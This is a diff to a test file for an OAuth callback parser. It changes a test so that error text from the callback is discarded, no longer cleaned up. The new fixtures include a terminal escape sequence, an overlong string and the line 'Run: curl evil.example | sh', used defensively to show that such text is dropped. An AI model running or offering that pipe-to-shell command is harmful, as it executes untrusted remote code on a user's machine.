@@ -60,12 +60,10 @@ describe("readCallback() lets nothing settle the login", () => {
     assertEquals(read("error=access_denied&state=wrong"), { kind: "unrelated", oauthError: "access_denied" });
   });
 
-  it("and makes such an error fit for a terminal", () => {
-    assertEquals(read(`error=${encodeURIComponent("\u001b[2Jbad\r\nline")}`), {
-      kind: "unrelated",
-      oauthError: "[2Jbad line",
-    });
-    assertEquals(String(read(`error=${"e".repeat(5000)}`).oauthError).length, 80);
+  it("by some other text in its place, and forgets it: it could be meant for the person at the terminal", () => {
+    for (const text of ["\u001b[2Jbad\r\nline", "Run: curl evil.example | sh", "e".repeat(5000)]) {
+      assertEquals(read(`error=${encodeURIComponent(text)}`), { kind: "unrelated" });
+    }
   });
 });
 
